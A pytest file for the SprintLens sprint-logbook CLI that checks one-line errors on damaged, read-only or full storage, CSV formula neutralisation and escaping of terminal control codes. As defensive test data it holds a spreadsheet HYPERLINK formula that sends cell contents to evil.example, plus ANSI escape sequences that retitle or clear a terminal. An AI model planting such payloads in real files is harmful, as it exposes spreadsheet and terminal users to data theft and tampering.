"""The logbook commands when storage fails, and with hostile text: one-line errors, never a crash;
read commands on read-only storage and full disks; CSV cells never run as formulas; names with
terminal codes refused, or shown escaped."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import shutil
import sqlite3
from dataclasses import replace

import pytest
from click.testing import CliRunner
from logbook_data import synthetic_rep
from storage import fill, remount_readonly, tmpfs

from sprintlens.cli import EXIT_INTERNAL, main
from sprintlens.core.files import csv_text
from sprintlens.logbook.session import store_session
from sprintlens.logbook.store import Store

DAY = dt.date(2024, 5, 6)
READS = [["athletes"], ["sessions"], ["reps", "1"], ["review", "1"], ["progress", "--athlete", "Ann"]]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TITLE = "Eve\x1b]0;pwned\x07"


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "logbook.db"
    with Store(path) as store:
        store.add_athlete("Ann", height_m=1.70, notes="400 m")
        reps = [synthetic_rep(f"rep{i}.mp4", seed=i) for i in range(1, 5)]
        steps = reps[0].steps.rows()
        steps[0]["trunk_lean_touchdown_deg"] = -2.5  # a negative number must stay a number in the CSV
        reps[0] = replace(reps[0], steps=tuple(steps))
        store_session(store, "Ann", reps, date=DAY, phase="speed", location="Track A")
    return path


def run(*args, input=None):
    return CliRunner().invoke(main, [str(a) for a in args], input=input, catch_exceptions=False)


def one_line_error(result, *needles):
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.output and "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, result.output
    for needle in needles:
        assert needle in errors[0], errors[0]
    return errors[0]


def damage(path, offset=20000):
    with open(path, "r+b") as fh:
        fh.seek(offset)
        fh.write(b"\xde\xad" * 2048)


# -- a damaged file -----------------------------------------------------------------------


@pytest.mark.parametrize("command", [*READS, ["export", "OUT"], ["delete", "--rep", "1", "--yes"],
                                     ["rpe", "1", "7"], ["logbook", "backup", "OUT.bak"]])
def test_a_damaged_logbook_is_a_one_line_error_in_every_command(db, tmp_path, command):
    damage(db)
    args = [str(tmp_path / a) if a.startswith("OUT") else a for a in command]
    result = run(*args, "--db", db)
    assert result.exit_code != EXIT_INTERNAL
    one_line_error(result, f"the logbook {db} is damaged (database disk image is malformed)",
                   "sprintlens logbook check")
    assert not (tmp_path / "OUT.bak").exists()


def test_logbook_check_says_ok_or_lists_the_damage_with_a_failing_exit(db):
    result = run("logbook", "check", "--db", db)
    assert result.exit_code == 0 and result.output.startswith(f"{db}: ok") and "4 reps" in result.output
    damage(db)
    result = run("logbook", "check", "--db", db)
    assert result.exit_code == 1 and f"{db}: damaged" in result.output and "malformed" in result.output
    assert "restore" in result.output and "internal error" not in result.output


def test_logbook_check_on_a_file_damaged_from_its_first_page(db):
    with open(db, "r+b") as fh:
        fh.write(b"\xde\xad" * 50)
    result = run("logbook", "check", "--db", db)
    assert result.exit_code == 1 and "damaged: it cannot be opened" in result.output


def test_logbook_backup_then_restore_after_damage(db, tmp_path):
    result = run("logbook", "backup", "--db", db)
    assert result.exit_code == 0, result.output
    backups = sorted(tmp_path.glob("logbook.db.*.bak"))
    assert len(backups) == 1 and f"to {backups[0]}" in result.output
    result = run("logbook", "backup", tmp_path / "copy.db", "--db", db)
    assert result.exit_code == 0 and (tmp_path / "copy.db").exists()
    damage(db)
    message = one_line_error(run("reps", "1", "--db", db), "restore the backup made at ")
    assert str(backups[0]) in message
    shutil.copy(backups[0], db)
    assert run("logbook", "check", "--db", db).exit_code == 0
    assert "rep4.mp4" in run("reps", "1", "--db", db).output


# -- read-only storage and a full disk ------------------------------------------------------


def test_read_commands_work_on_read_only_storage_and_changes_say_it_is_read_only(db, tmp_path):
    out = tmp_path / "export"
    with tmpfs(tmp_path / "ro") as folder:
        copy = folder / "logbook.db"
        shutil.copy(db, copy)
        remount_readonly(folder)
        for command in READS:
            result = run(*command, "--db", copy)
            assert result.exit_code == 0, (command, result.output)
            assert "Ann" in result.output
        assert run("export", out, "--db", copy).exit_code == 0 and (out / "reps.csv").exists()
        assert run("logbook", "check", "--db", copy).exit_code == 0
        for command in (["rpe", "1", "7"], ["athlete", "add", "Bob"], ["note", "--rep", "1", "ok"],
                        ["delete", "--rep", "1", "--yes"]):
            message = one_line_error(run(*command, "--db", copy), "read-only storage")
            assert "not a SprintLens database" not in message


def test_a_full_disk_reads_and_says_full_when_writing(db, tmp_path):
    with tmpfs(tmp_path / "full", size="256k") as folder:
        copy = folder / "logbook.db"
        shutil.copy(db, copy)
        fill(folder)
        for command in READS:
            result = run(*command, "--db", copy)
            assert result.exit_code == 0, (command, result.output)
        for command in (["rpe", "1", "7"], ["athlete", "add", "Bob"]):
            one_line_error(run(*command, "--db", copy), f"the disk holding {copy} is full", "free some space")


# -- heights --------------------------------------------------------------------------------


def test_a_height_every_later_analysis_would_refuse_is_refused_when_added(db):
    one_line_error(run("athlete", "add", "Kid", "--height", "0.9", "--db", db), "1.0-2.5 m")
    one_line_error(run("athlete", "edit", "Ann", "--height", "2.6", "--db", db), "1.0-2.5 m")
    assert run("athlete", "add", "Tall", "--height", "2.5", "--db", db).exit_code == 0


# -- CSV: text never runs as a formula --------------------------------------------------------


def test_export_neutralises_formulas_in_text_cells_and_keeps_numbers_numbers(db, tmp_path):
    with Store(db) as store:
        store.update_athlete("Ann", new_name=HYPERLINK, notes="@SUM(A1:A9)")
        store.update_session(1, location="+44 track", notes="-2 degrees\nwindy")
        store.set_rep_notes(1, "\tpadded")
    out = tmp_path / "export"
    assert run("export", out, "--db", db).exit_code == 0
    with open(out / "athletes.csv", newline="") as fh:
        athlete = next(csv.DictReader(fh))
    assert athlete["name"] == "'" + HYPERLINK and athlete["notes"] == "'@SUM(A1:A9)"
    assert float(athlete["height_m"]) == 1.7
    with open(out / "sessions.csv", newline="") as fh:
        session = next(csv.DictReader(fh))
    assert session["location"] == "'+44 track" and session["notes"] == "'-2 degrees\nwindy"
    with open(out / "reps.csv", newline="") as fh:
        reps = list(csv.DictReader(fh))
    assert reps[0]["notes"] == "'\tpadded" and reps[0]["athlete"] == "'" + HYPERLINK
    with open(out / "steps.csv", newline="") as fh:
        steps = list(csv.DictReader(fh))
    assert float(steps[0]["trunk_lean_touchdown_deg"]) == -2.5
    numeric = [k for k in steps[0] if k not in ("athlete", "foot", "foot_view")]
    for row in steps:
        assert row["athlete"].startswith("'=")
        for key in numeric:
            assert row[key] == "" or math.isfinite(float(row[key])), (key, row[key])
    every_cell = [c for name in ("athletes", "sessions", "reps", "steps", "changes", "flags", "progress")
                  for r in csv.reader(open(out / f"{name}.csv", newline="")) for c in r]
    assert not [c for c in every_cell if c[:1] in ("=", "@", "\t", "\r")
                or (c[:1] in ("+", "-") and not _is_number(c))]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_csv_cell_function_quotes_only_text_that_a_spreadsheet_would_run():
    text = csv_text(["a"], [[-0.5], ["-0.5"], [-3], ["-"], ["=1+2"], ["+1-2"], ["@x"], ["\rx"], ["ok"],
                            [float("nan")], [True], ["1e-3"], ["-1e+3"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == ["-0.5", "-0.5", "-3", "'-", "'=1+2", "'+1-2", "'@x", "'\nx", "ok", "", "1",
                                        "1e-3", "-1e+3"]


# -- terminal codes ------------------------------------------------------------------------


def test_a_name_with_terminal_codes_is_refused_when_added(db):
    result = run("athlete", "add", TITLE, "--db", db)
    message = one_line_error(result, "athlete name", "control character")
    assert "\x1b" not in result.output and "\x07" not in result.output and "\\x1b" in message
    one_line_error(run("note", "--rep", "1", "ok\x1b[2J", "--db", db), "rep notes")
    one_line_error(run("note", "--session", "1", "\x9b31m", "--db", db), "session notes")
    assert "Eve" not in run("athletes", "--db", db).output


def test_names_already_in_the_logbook_are_printed_escaped(db):
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE athletes SET name = ?, notes = ?", (TITLE, "note\x1b[2J"))
        conn.execute("UPDATE sessions SET location = ?, notes = ?", ("Track\x1b[1A", "x\x07"))
        conn.execute("UPDATE reps SET notes = ?, video_name = ? WHERE id = 1", ("\x1b[31mred", "clip\x1b.mp4"))
    for command in [["athletes"], ["sessions"], ["reps", "1"], ["review", "1"], ["progress", "--athlete", TITLE],
                    ["delete", "--rep", "1"]]:
        result = run(*command, "--db", db, input="n\n")
        assert not any(c in result.output for c in "\x1b\x07\x9b"), (command, result.output)
        assert "Eve\\x1b]0;pwned\\x07" in result.output or command == ["delete", "--rep", "1"], command
    lines = run("athletes", "--db", db).output.splitlines()
    assert lines[1].startswith("Eve\\x1b]0;pwned\\x07  ")  # escaped before the columns were laid out
    assert "Track\\x1b[1A" in run("sessions", "--db", db).output
    out = run("reps", "1", "--db", db).output
    assert "clip\\x1b.mp4" in out and "\\x1b[31mred" in out
